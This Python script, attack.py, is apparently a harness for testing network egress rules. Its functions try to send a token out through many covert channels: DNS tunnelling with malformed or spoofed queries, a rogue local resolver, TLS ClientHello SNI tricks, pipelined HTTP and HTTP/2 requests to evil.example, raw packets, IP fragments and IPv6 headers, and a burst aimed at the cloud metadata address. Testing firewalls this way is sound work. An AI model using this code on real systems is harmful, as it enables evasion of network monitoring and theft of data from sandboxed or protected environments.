"""What bash and curl cannot send. Usage: attack.py KIND ADDRESS PORT TOKEN [MORE]. The kinds are the functions below."""
import os, random, socket, struct, sys, time

kind, address, port, token = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
more = sys.argv[5] if len(sys.argv) > 5 else ''
if address == 'resolver':
    address = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
family = socket.AF_INET6 if ':' in address else socket.AF_INET
six = family == socket.AF_INET6
data = token.encode().decode('unicode_escape').encode('latin1')


def connect(timeout=3):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((address, port))
    return s


def finish(s):
    try:
        s.recv(2000); s.settimeout(0.5); s.recv(2000)
    except OSError:
        pass


def datagram(payload, s=None):
    s = s or socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(payload, (address, port)); time.sleep(0.05)


# --- plain sockets

def tcp(): s = connect(); s.sendall(data + b'\r\n\r\n'); finish(s)
def raw(): s = connect(); s.sendall(data); finish(s)
def udp(): datagram(data + b'.' * int(more or 0))
def udplite(): datagram(data, socket.socket(family, socket.SOCK_DGRAM, 136))


def mptcp():
    s = socket.socket(family, socket.SOCK_STREAM, 262); s.settimeout(3)
    s.connect((address, port)); s.sendall(data + b'\r\n\r\n'); finish(s)


def low_source():
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    s.bind(('', 1024)); s.connect((address, port)); s.sendall(data + b'\r\n\r\n'); finish(s)


def forged_source():
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6 if six else socket.IPPROTO_IP, 78 if six else 15, 1)
    s.bind((more, 40000)); datagram(data, s)


def bound_device():
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    s.setsockopt(socket.SOL_SOCKET, 25, more.encode() + b'\0')
    s.connect((address, port)); s.sendall(data + b'\r\n\r\n'); finish(s)


def icmp():
    s = socket.socket(family, socket.SOCK_DGRAM, 58 if six else 1)
    datagram(struct.pack('>BBHHH', 128 if six else 8, 0, 0, 1, 1) + data, s)


def fastopen():
    s = socket.socket(family, socket.SOCK_STREAM)
    s.sendto(data + b'\r\n\r\n', 0x20000000, (address, port)); s.settimeout(3); finish(s)


def broadcast():
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); datagram(data, s)


def multicast():
    s = socket.socket(family, socket.SOCK_DGRAM)
    if six: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex('eth0'))
    datagram(data, s)


def join_group():
    """The kernel announces the group on the link; the group's address carries the data."""
    s = socket.socket(family, socket.SOCK_DGRAM)
    if six:
        group = b'\xff\x05' + data[-14:]
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group + struct.pack('@I', socket.if_nametoindex('eth0')))
    else:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, b'\xef' + data[-4:-1] + bytes(4))
    time.sleep(0.3)


def sweep():
    """Many ports at once, each with a datagram and the start of a connection."""
    for each in range(1, 65536, 131):
        try:
            s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(data, (address, each))
        except OSError: pass
        try:
            s = socket.socket(family, socket.SOCK_STREAM); s.setblocking(False)
            s.sendto(data, 0x20000000, (address, each))
        except OSError: pass


# --- DNS

def labels(name): return b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'


def query(name, type, extra=b'', flags=0x100, klass=1, count=1):
    header = struct.pack('>HHHHHH', random.randrange(65536), flags, count, 0, 0, 1 if extra else 0)
    return header + labels(name) + struct.pack('>HH', type, klass) + extra


def edns(payload):
    option = struct.pack('>HH', 65001, len(payload)) + payload
    return b'\0' + struct.pack('>HHIH', 41, 1232, 0, len(option)) + option


def ask(message, s=None):
    s = s or socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(message, (address, port)); finish(s)


def ask_tcp(message):
    s = connect(); s.sendall(struct.pack('>H', len(message)) + message); finish(s)


def dns(): ask(query(token, int(more)))
def dns_tcp(): ask_tcp(query(token, int(more)))
def dns_edns(): ask(query(token, 1, edns(more.encode())))
def dns_class(): ask(query(token, 1, klass=int(more)))
def dns_opcode(): ask(query(token, 1, flags=int(more) << 11 | 0x100))
def dns_response(): ask(query(token, 1, flags=0x8180))
def dns_second(): ask(query('allowed.example', 1, count=2) + labels(token) + struct.pack('>HH', 1, 1))
def dns_none(): ask(query(token, 1, count=0))
def dns_zone(): ask_tcp(query(token, 252))
def dns_update(): ask(struct.pack('>HHHHHH', 1, 0x2800, 1, 0, 1, 0) + labels('tunnel.example') + struct.pack('>HH', 6, 1)
                      + labels(token) + struct.pack('>HHIH', 16, 1, 60, 0))


def dns_dot():
    """A label with a dot inside: `listed` as one reads it, something else as another does."""
    ask(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + bytes([len(token) + 16]) + token.encode() + b'.allowed.example'
        + labels('tunnel.example') + struct.pack('>HH', 1, 1))


def dns_pointer():
    ask(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + bytes([len(token)]) + token.encode() + b'\xc0\x40'
        + struct.pack('>HH', 1, 1) + b'.' * (0x40 - 12 - 1 - len(token) - 2 - 4) + labels('tunnel.example'))


def dns_pipelined():
    """Several questions in one TCP connection, the foreign one last."""
    s = connect()
    for name in ['allowed.example'] * 3 + [token]:
        message = query(name, 1); s.sendall(struct.pack('>H', len(message)) + message); finish(s)


def dns_tls():
    s = ssl._create_unverified_context().wrap_socket(connect(), server_hostname=more or None)
    message = query(token, 1); s.sendall(struct.pack('>H', len(message)) + message); finish(s)


def used_source_port():
    """From the source ports that the resolver has just used for questions that were answered."""
    for count in range(40):
        try: socket.getaddrinfo('n%d-%d.suffix.example' % (os.getpid(), count), 80, family)
        except OSError: pass
    for each in random.sample(range(1024, 65536), 16000):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.bind(('', each)); s.sendto(query(token, 1), (address, port))
        except OSError: pass


def answer(message, address):
    """An answer to any question of type A."""
    end = message.index(b'\0', 12) + 5
    record = struct.pack('>HHHIH', 0xc00c, 1, 1, 1, 4) + socket.inet_aton(address)
    is_address = message[end - 4:end - 2] == b'\0\x01'
    return message[:2] + struct.pack('>HHHHH', 0x8180, 1, is_address, 0, 0) + message[12:end] + record * is_address


def impostor():
    """Takes the local resolver's port beside it, or before it is back, and says that the listed name MORE is ours."""
    import threading
    def lie(s):
        while True:
            message, asker = s.recvfrom(2000); s.sendto(answer(message, address), asker)
    for at in ['127.0.0.1', '0.0.0.0', '127.0.0.11']:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for option in [socket.SO_REUSEADDR, socket.SO_REUSEPORT]: s.setsockopt(socket.SOL_SOCKET, option, 1)
            s.bind((at, 53)); threading.Thread(target=lie, args=[s], daemon=True).start()
        except OSError as error: print('not bound to', at, error)
    s = connect(); s.sendall(b'GET /' + data + b' HTTP/1.1\r\nHost: ' + more.encode() + b'\r\n\r\n'); finish(s)


def answers():
    """Prints from which addresses and ports a datagram reaches a socket of this network."""
    for at in ['127.0.0.1', '127.0.0.11', '::1', own_address()]:
        family = socket.AF_INET6 if ':' in at else socket.AF_INET
        asker = socket.socket(family, socket.SOCK_DGRAM); asker.settimeout(0.3)
        try: asker.bind(('::1' if family == socket.AF_INET6 else '127.0.0.1', 0))
        except OSError: continue
        for each in [53, 5300]:
            s = socket.socket(family, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((at, each))
            try:
                s.sendto(b'answer', asker.getsockname()); print('from', at, each, asker.recv(100).decode())
            except OSError: pass


# --- TLS

if 'tls' in kind: import ssl

def tls():
    s = ssl._create_unverified_context().wrap_socket(connect(), server_hostname=more or None)
    s.sendall(b'GET /' + data + b' HTTP/1.0\r\n\r\n'); finish(s)


def by_hand(send):
    """A whole TLS session, each flight sent by `send(socket, bytes)`."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl._create_unverified_context().wrap_bio(incoming, outgoing, server_hostname=more)
    s = connect(); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    while True:
        try:
            session.do_handshake(); break
        except ssl.SSLWantReadError:
            send(s, outgoing.read()); incoming.write(s.recv(65536) or sys.exit(1))
    session.write(b'GET /' + data + b' HTTP/1.0\r\n\r\n'); send(s, outgoing.read()); finish(s)


def tls_pieces():
    def send(s, flight):
        for byte in flight: s.sendall(bytes([byte])); time.sleep(0.0005)
    by_hand(send)


def tls_records():
    """The greeting over many records: its name is nowhere in one piece."""
    def send(s, flight):
        if flight[:1] == b'\x16':
            flight = b''.join(record(flight[at:at + 20]) for at in range(5, len(flight), 20))
        s.sendall(flight)
    by_hand(send)


def extension(type, body): return struct.pack('>HH', type, len(body)) + body


def server_names(names, type=0):
    each = b''.join(bytes([type]) + struct.pack('>H', len(name)) + name for name in names)
    return extension(0, struct.pack('>H', len(each)) + each)


def client_hello(extensions):
    body = struct.pack('>H', 0x303) + os.urandom(32) + b'\x20' + os.urandom(32) + b'\0\x04\x13\x01\xc0\x2f' + b'\x01\0'
    body += struct.pack('>H', len(extensions)) + extensions
    return b'\x01' + struct.pack('>I', len(body))[1:] + body


def record(body, type=22): return bytes([type]) + struct.pack('>HH', 0x301, len(body)) + body


def hello():
    """A ClientHello by hand. MORE is JSON: names, again (a second extension), type, pad, ech, before, drip."""
    import json
    options = json.loads(more)
    as_bytes = lambda names: [name.replace('TOKEN', token).encode('latin1') for name in names]
    extensions = server_names(as_bytes(options.get('names', [])), options.get('type', 0)) if 'names' in options else b''
    if 'again' in options: extensions += server_names(as_bytes(options['again']))
    if 'pad' in options: extensions = extension(21, bytes(options['pad'])) + extensions
    if 'ech' in options: extensions += extension(0xfe0d, b'\0\0\x01\0\x01\x07' + struct.pack('>H', 32) + os.urandom(32) + struct.pack('>H', len(data)) + data)
    message = client_hello(extensions)
    stream = record(message)
    stream = bytes.fromhex(options.get('before', '')) + stream
    s = connect(); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if 'drip' in options:
        for at in range(0, len(stream), 40): s.sendall(stream[at:at + 40]); time.sleep(options['drip'])
    else:
        s.sendall(stream)
    finish(s)


def sslv2():
    """A greeting in the format of SSL 2, which cannot name a server; the challenge carries the data."""
    body = b'\x01\x03\x01' + struct.pack('>HHH', 3, 0, len(data)) + b'\x01\0\x80' + data
    s = connect(); s.sendall(struct.pack('>H', 0x8000 | len(body)) + body); finish(s)


def used_proxy_port():
    """From the source ports of the proxy's connections that the server has just reset: is this still one of them?"""
    # The server that plays along resets at this word.
    greeting = record(client_hello(server_names([b'cdn.example']) + extension(21, b'HARDEN-RESET')))
    open_ones = []
    for count in range(200):
        s = connect(); s.sendall(greeting); open_ones.append(s)
    for s in open_ones: finish(s)
    foreign = record(client_hello(server_names([b'evil.example', data])))
    for each in random.sample(range(32768, 61000), 900):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.bind(('', each)); s.settimeout(0.3); s.connect((address, port)); s.sendall(foreign)
        except OSError: pass


# --- HTTP/2 in clear text

def frame(type, flags, stream, body): return struct.pack('>I', len(body))[1:] + bytes([type, flags]) + struct.pack('>I', stream) + body


def http2_request():
    text = lambda value: bytes([len(value)]) + value
    fields = [(b':method', b'GET'), (b':scheme', b'http'), (b':path', b'/' + data), (b':authority', b'evil.example')]
    block = b''.join(b'\0' + text(name) + text(value) for name, value in fields)
    return b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 5, 1, block)


def http2(): s = connect(); s.sendall(http2_request()); finish(s)


def http2_upgrade():
    s = connect()
    s.sendall(b'GET / HTTP/1.1\r\nHost: cdn.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n')
    s.recv(2000); s.sendall(http2_request()); finish(s)


def pipeline():
    """A long-lived connection with many good requests, and a foreign one behind them."""
    s = connect()
    for count in range(60):
        s.sendall(b'GET /%d HTTP/1.1\r\nHost: cdn.example\r\n\r\n' % count); s.recv(2000)
    s.sendall(b'GET /' + data + b' HTTP/1.1\r\nHost: evil.example\r\n\r\n'); finish(s)


# --- over and over

def storm():
    """Everything that is quick, for PORT seconds (at least once). The token is read from the file TOKEN each time."""
    resolver = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
    until = time.time() + port
    while True:
        word = open(token).read().strip()
        text = word.encode() + b'\r\n\r\n'
        question = query(word + '.tunnel.example', 1)
        for where, number, payload in [
            ('198.18.0.66', 4500, text), ('2001:2::66', 4500, text), ('198.18.0.53', 53, question), ('198.18.0.66', 53, question),
            (resolver, 53, question), ('172.30.99.1', 5000, text), ('172.30.99.66', 5000, text), ('224.0.0.251', 5353, text),
        ]:
            try: socket.socket(socket.AF_INET6 if ':' in where else socket.AF_INET, socket.SOCK_DGRAM).sendto(payload, (where, number))
            except OSError: pass
        for where, number in [
            ('198.18.0.66', 8080), ('2001:2::66', 8080), ('198.18.0.66', 443), ('2001:2::66', 443), ('198.18.0.66', 80), ('2001:2::66', 80),
            ('172.30.99.1', 80), ('172.30.99.66', 80), ('169.254.169.254', 80), ('fd00:ec2::254', 80),
        ]:
            try:
                with socket.create_connection((where, number), 0.3) as s: s.sendall(b'GET /' + word.encode() + b' HTTP/1.1\r\nHost: evil.example\r\n\r\n')
            except OSError: pass
        if time.time() >= until: return
        time.sleep(0.005)


def held():
    """A connection that is made now and used again when the file MORE is there."""
    s = connect(); s.sendall(data + b'-first\r\n\r\n'); s.recv(2000)
    d = socket.socket(family, socket.SOCK_DGRAM); d.connect((address, port)); d.send(data + b'-first')
    while not os.path.exists(more): time.sleep(0.02)
    for each in s, d:
        for count in range(3):
            try: each.sendall(data + b'-second\r\n\r\n'); time.sleep(0.1)
            except OSError: pass


# --- with CAP_NET_RAW: would the rules hold for packets that a tool cannot make?

def checksum(words):
    words += b'\0' * (len(words) % 2)
    total = sum(struct.unpack('>%dH' % (len(words) // 2), words))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def own_address():
    s = socket.socket(family, socket.SOCK_DGRAM); s.connect((address, 9)); return s.getsockname()[0]


def protocol():
    s = socket.socket(family, socket.SOCK_RAW, int(more))
    s.sendto(data, (address, 0)); time.sleep(0.05)


def segment():
    """A TCP segment with data that belongs to no connection; MORE is its flags."""
    source = socket.inet_pton(family, own_address()); target = socket.inet_pton(family, address)
    head = struct.pack('>HHIIBBHHH', 40001, port, 1, 1, 5 << 4, int(more), 1024, 0, 0)
    pseudo = source + target + (struct.pack('>IHBB', len(head + data), 0, 0, 6) if six else struct.pack('>BBH', 0, 6, len(head + data)))
    head = head[:16] + struct.pack('>H', checksum(pseudo + head + data)) + head[18:]
    s = socket.socket(family, socket.SOCK_RAW, 6); s.sendto(head + data, (address, 0)); time.sleep(0.05)


def ip_packet(protocol, offset, body, identity=7):
    return struct.pack('>BBHHHBBH', 0x45, 0, 20 + len(body), identity, offset, 64, protocol, 0) + socket.inet_aton(own_address()) + socket.inet_aton(address) + body


def fragments():
    """A UDP datagram in fragments by hand; MORE says in which order, or that a later one is all there is."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    whole = struct.pack('>HHHH', 40002, port, 8 + 32 + len(data), 0) + b'.' * 32 + data
    parts = [(0, whole[:8]), (8, whole[8:24]), (24, whole[24:])]
    if more == 'last-first': parts.reverse()
    if more == 'later-only': parts = parts[2:]
    for at, part in parts:
        last = at + len(part) >= len(whole)
        s.sendto(ip_packet(17, at // 8 | (0 if last else 0x2000), part), (address, 0))
    time.sleep(0.05)


def ipv6_headers():
    """UDP behind extension headers; MORE names their types, in order."""
    body = struct.pack('>HHHH', 40003, port, 8 + len(data), 0) + data; following = 17
    for type in reversed([int(type) for type in more.split(',')]):
        if type == 44: header = bytes([following, 0]) + struct.pack('>HI', 0, 99)
        elif type == 43: header = bytes([following, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(family, address)
        else: header = bytes([following, 0, 1, 4, 0, 0, 0, 0])
        body = header + body; following = type
    packet = struct.pack('>IHBB', 6 << 28, len(body), following, 64) + socket.inet_pton(family, own_address()) + socket.inet_pton(family, address) + body
    s = socket.socket(family, socket.SOCK_RAW, 255); s.sendto(packet, (address, 0)); time.sleep(0.05)


def icmp_type():
    s = socket.socket(family, socket.SOCK_RAW, 58 if six else 1)
    head = struct.pack('>BBHI', int(more), 0, 0, 0)
    if not six: head = head[:2] + struct.pack('>H', checksum(head + data)) + head[4:]
    s.sendto(head + data, (address, 0)); time.sleep(0.05)


globals()[kind]()
